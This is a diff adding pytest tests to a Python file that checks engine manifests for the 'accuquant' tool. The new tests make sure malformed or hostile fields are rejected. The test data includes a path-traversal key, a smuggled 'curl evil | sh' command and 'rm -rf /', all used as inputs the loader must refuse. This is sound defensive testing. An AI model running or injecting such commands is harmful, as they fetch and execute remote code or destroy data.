@@ -13,8 +13,9 @@ import onnx
 import pytest
 from onnx import TensorProto, helper, numpy_helper
 
-from accuquant.engine_manifest import EngineManifest, digest_model, engine_key, engine_path, manifest_path
+from accuquant.engine_manifest import EngineManifest, built_root, digest_model, engine_key, engine_path, manifest_path
 from accuquant.errors import EngineError
+from snapshot import as_snapshot
 
 MANIFEST = EngineManifest(
     engine_sha256=hashlib.sha256(b"kernels").hexdigest(),
@@ -129,3 +130,52 @@ def test_external_data_is_part_of_a_models_digest(tmp_path: Path) -> None:
 def test_engines_lie_by_target_and_library() -> None:
     path = engine_path(Path("out"), "unet/group_00.onnx", "sm89", "tensorrt_rtx")
     assert path == Path("out/engines/sm89/tensorrt_rtx/group_00.engine")
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("engine_sha256", 5),
+        ("engine_sha256", "00"),
+        ("engine_bytes", 10**400),
+        ("engine_bytes", -1),
+        ("model_files", {}),
+        ("model_files", ["model.onnx"]),
+        ("model_files", {"../../secret": "0" * 64}),
+        ("options", 3),
+        ("options", {"a": [[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]] * 1}),
+        ("library", None),
+        ("seconds", "long"),
+        ("rebuild", "accuquant build OUT; curl evil | sh"),
+        ("rebuild", "rm -rf /"),
+        ("rebuild", "accuquant build 'OUT"),
+    ],
+)
+def test_a_value_of_another_type_or_a_command_of_another_is_refused(
+    engine: Path, field: str, value: object
+) -> None:
+    path = manifest_path(engine)
+    path.write_text(json.dumps(json.loads(path.read_text()) | {field: value}))
+    with pytest.raises(EngineError, match=r"model\.engine\.json': got "):
+        EngineManifest.load(engine)
+
+
+def test_fields_of_a_later_release_are_ignored(engine: Path) -> None:
+    path = manifest_path(engine)
+    path.write_text(json.dumps(json.loads(path.read_text()) | {"of a later release": [1]}))
+    assert EngineManifest.load(engine) == MANIFEST
+
+
+def test_engines_of_a_folder_are_in_it_and_those_of_a_download_are_in_a_cache(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "out").mkdir()
+    (tmp_path / "out" / "accuquant.json").write_text("{}")
+    snapshot = as_snapshot(tmp_path / "out", tmp_path / "hub")
+    assert built_root(tmp_path / "out") == tmp_path / "out"
+    monkeypatch.delenv("ACCUQUANT_CACHE", raising=False)
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
+    assert built_root(snapshot).is_relative_to(tmp_path / "xdg" / "accuquant")
+    monkeypatch.setenv("ACCUQUANT_CACHE", str(tmp_path / "ours"))
+    assert built_root(snapshot).is_relative_to(tmp_path / "ours")
+    assert built_root(snapshot) != built_root(snapshot / "unet")
